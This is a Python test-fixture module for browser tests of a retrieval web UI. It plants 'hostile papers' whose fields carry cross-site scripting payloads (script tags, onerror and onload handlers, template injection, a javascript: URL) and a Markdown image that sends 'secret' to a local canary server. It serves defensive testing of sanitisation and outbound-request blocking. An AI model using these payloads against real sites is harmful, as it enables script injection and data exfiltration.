"""Fixtures and helpers for the browser tests of the web UI (Debian chromium driven by Playwright; never
`playwright install`). tests/conftest.py imports the fixtures, so one app serves every browser test module.

The app: `rag ui` over the bundled corpus plus hostile papers (markup in every field; Markdown images, links and
bare URLs pointing at a canary HTTP server on 127.0.0.1), with a scripted OpenAI-compatible server
(tests/fault_server.py) as its endpoint. The default backend is extractive; a test that wants the LLM picks
"openai" in the settings drawer and scripts the reply with `scripted_llm.set_reply(...)`.

Every page has a route guard that aborts and records any request that is not for the app's own origin (other
127.0.0.1 ports included), and the canary records any request that reached it anyway.
"""

from __future__ import annotations

import json
import os
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from rag.factory import build_index
from tests.fault_server import FaultServer
from tests.ui_server import ROOT, UIServer, start_ui

CHROMIUM = next((p for p in ("/usr/lib/chromium/chromium", "/usr/bin/chromium") if Path(p).exists()), None)
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
                 "--no-first-run", "--disable-sync", "--disable-quic"]  # fmt: skip
ARTIFACTS = ROOT / "test-artifacts"
TIMEOUT_MS = 90_000
DESKTOP, PHONE = {"width": 1440, "height": 900}, {"width": 390, "height": 844}
VIEWPORTS = pytest.mark.parametrize("viewport", [DESKTOP, PHONE], ids=["1440x900", "390x844"])
ALBERTA = "How many wells are in the Alberta dataset?"
EVIL = {
    "id": "evil-01",
    "title": '<img src=x onerror="window.__xss=1">Evil',
    "abstract": "<script>window.__xss=2</script> We study how zebra stripes affect the decoherence of quantum "
                "giraffes. ${window.__xss=3} {{constructor.constructor('window.__xss=4')()}} Zebra stripes reduce "
                "giraffe decoherence by 40 percent in our experiments.",
    "authors": ["<b>Mallory</b> <svg onload=window.__xss=5>"],
    "year": 2025,
    "venue": "<i>XSSConf</i>",
    "url": "javascript:window.__xss=6",
    "code_url": 'https://example.org/code" onmouseover="window.__xss=7',
}  # fmt: skip


def planted_paper(canary: str) -> dict[str, Any]:
    """An abstract whose Markdown would make a browser fetch the canary, and a link dressed as another paper."""
    return {
        "id": "planted-md",
        "title": "Kelp forests store carbon in deep ocean sediments",
        "abstract": f"Kelp forests export carbon to deep ocean sediments ![chart]({canary}/abstract.png?d=secret) at "
                    f"a rate of 175 teragrams per year. The sediment data are described in [Kelp Carbon Atlas]"
                    f"({canary}/phish) and at {canary}/bare-abstract and www.kelp-data.example/x.",
        "authors": ["Ana Kelp"], "year": 2024, "venue": "Ocean Letters",
    }  # fmt: skip


class Canary:
    """An HTTP server on 127.0.0.1 that records every request: nothing on the page may reach it."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def _require_browser() -> None:
    reason = None
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        reason = "playwright (Python) is not installed"
    if CHROMIUM is None:
        reason = "Debian chromium is not installed (/usr/bin/chromium)"
    if reason and os.environ.get("RAG_REQUIRE_BROWSER") == "1":
        pytest.fail(f"RAG_REQUIRE_BROWSER=1 but {reason}")
    if reason:
        pytest.skip(reason)


@pytest.fixture(scope="session")
def browser() -> Iterator[Any]:
    _require_browser()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        yield b
        b.close()


@pytest.fixture(scope="session")
def canary() -> Iterator[Canary]:
    c = Canary()
    yield c
    c.close()


@pytest.fixture(scope="session")
def scripted_llm() -> Iterator[FaultServer]:
    with FaultServer(["ok"] * 1000) as server:
        yield server


@pytest.fixture(scope="session")
def browser_ui(browser: Any, canary: Canary, scripted_llm: FaultServer, tmp_path_factory: pytest.TempPathFactory
               ) -> Iterator[UIServer]:  # fmt: skip
    from rag.settings import BUNDLED_CORPUS, load_settings

    tmp = tmp_path_factory.mktemp("ui-browser")
    extra = tmp / "hostile.jsonl"
    extra.write_text("".join(json.dumps(p) + "\n" for p in (EVIL, planted_paper(canary.url))), encoding="utf-8")
    build_index(load_settings(home=tmp / "home", env={}), [BUNDLED_CORPUS, extra])
    env = {"OPENAI_BASE_URL": scripted_llm.base_url, "RAG_MODEL": "scripted", "RAG_LLM": "extractive",
           "RAG_VERIFY": "offline", "RAG_UI_BACKENDS": "extractive,openai,local", "RAG_MAX_RETRIES": "1",
           # "local" unusable everywhere (CI has llama.cpp installed): the UI must hide it and say why
           "RAG_LOCAL_MODEL_PATH": str(tmp / "no-such-model.gguf")}
    server = start_ui(tmp / "home", ARTIFACTS / "ui-browser.log", env=env)
    yield server
    server.stop()


@dataclass
class Page:
    page: Any
    origin: str
    outside: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    @property
    def bots(self) -> Any:
        return self.page.get_by_test_id("bot")

    @property
    def box(self) -> Any:
        return self.page.locator("#question").get_by_test_id("textbox")

    def send(self, question: str) -> Any:
        """Type and send a question; returns the new message once it is on the page (still streaming)."""
        from playwright.sync_api import expect

        before = self.bots.count()
        self.box.fill(question)
        self.page.locator("#question").get_by_test_id("submit-button").click()
        expect(self.bots).to_have_count(before + 1, timeout=TIMEOUT_MS)
        return self.bots.nth(before)

    def ask(self, question: str, expect_text: str = "answered by") -> Any:
        """Send a question and wait until its answer is final (text shown, stop button gone, box editable)."""
        from playwright.sync_api import expect

        message = self.send(question)
        expect(message).to_contain_text(expect_text, timeout=TIMEOUT_MS)
        self.wait_idle()
        return message

    def wait_idle(self) -> None:
        from playwright.sync_api import expect

        expect(self.page.get_by_test_id("stop-button")).to_be_hidden(timeout=TIMEOUT_MS)
        expect(self.box).to_be_editable(timeout=TIMEOUT_MS)

    def settings(self) -> Any:
        """The settings drawer, opened."""
        from playwright.sync_api import expect

        drawer = self.page.locator("#settings")
        if "open" not in (drawer.get_attribute("class") or ""):
            drawer.get_by_role("button", name="Toggle Sidebar").click()
        expect(drawer.get_by_text("Answer backend")).to_be_in_viewport(timeout=TIMEOUT_MS)
        return drawer

    def close_settings(self) -> None:
        drawer = self.page.locator("#settings")
        if "open" in (drawer.get_attribute("class") or ""):
            drawer.get_by_role("button", name="Toggle Sidebar").click()

    def pick_backend(self, name: str) -> None:
        from playwright.sync_api import expect

        drawer = self.settings()
        drawer.locator("#backend input").click()
        self.page.get_by_role("option", name=name, exact=True).click()
        expect(drawer.locator("#backend input")).to_have_value(name, timeout=TIMEOUT_MS)
        self.close_settings()

    def shot(self, name: str) -> Path:
        ARTIFACTS.mkdir(exist_ok=True)
        path = ARTIFACTS / name
        self.page.screenshot(path=str(path))
        return path


def open_page(browser: Any, ui: UIServer, viewport: dict[str, int] = DESKTOP, **context: Any) -> tuple[Page, Any]:
    from playwright.sync_api import expect

    ctx = browser.new_context(viewport=viewport, **context)
    origin = f"{urlsplit(ui.url).hostname}:{urlsplit(ui.url).port}"
    p = Page(ctx.new_page(), origin)

    def guard(route: Any) -> None:
        url = route.request.url
        if url.startswith(("data:", "blob:")) or urlsplit(url).netloc == origin:
            route.continue_()
        else:
            p.outside.append(url)
            route.abort()

    ctx.route("**/*", guard)
    p.page.on("websocket", lambda ws: None if urlsplit(ws.url).netloc == origin else p.outside.append(ws.url))
    p.page.on("pageerror", lambda exc: p.errors.append(str(exc)))
    started = time.perf_counter()
    p.page.goto(ui.url)
    expect(p.box).to_be_editable(timeout=TIMEOUT_MS)
    expect(p.page.locator("#chat").get_by_text(ALBERTA)).to_be_visible(timeout=TIMEOUT_MS)  # the examples: laid out
    print(f"page ready in {time.perf_counter() - started:.1f} s")
    return p, ctx


@pytest.fixture
def sized(browser: Any, browser_ui: UIServer, viewport: dict[str, int]) -> Iterator[Page]:
    """A fresh page of the shared app at `viewport` (a phone one is a touch device); with VIEWPORTS, each test runs
    at 1440x900 and 390x844. No request may leave the app's origin."""
    phone = viewport is PHONE
    touch = {"is_mobile": True, "has_touch": True} if phone else {}
    p, ctx = open_page(browser, browser_ui, viewport, **touch)
    yield p
    ctx.close()
    assert p.outside == [], f"the page made outside requests: {p.outside}"


@pytest.fixture
def page(browser: Any, browser_ui: UIServer, canary: Canary, scripted_llm: FaultServer) -> Iterator[Page]:
    scripted_llm.set_reply(None)
    p, ctx = open_page(browser, browser_ui)
    yield p
    ctx.close()
    assert p.outside == [], f"the page made outside requests: {p.outside}"
    assert canary.hits == [], f"the canary was reached: {canary.hits}"


@pytest.fixture
def phone(browser: Any, browser_ui: UIServer, canary: Canary) -> Iterator[Page]:
    p, ctx = open_page(browser, browser_ui, PHONE, is_mobile=True, has_touch=True)
    yield p
    ctx.close()
    assert p.outside == [] and canary.hits == []
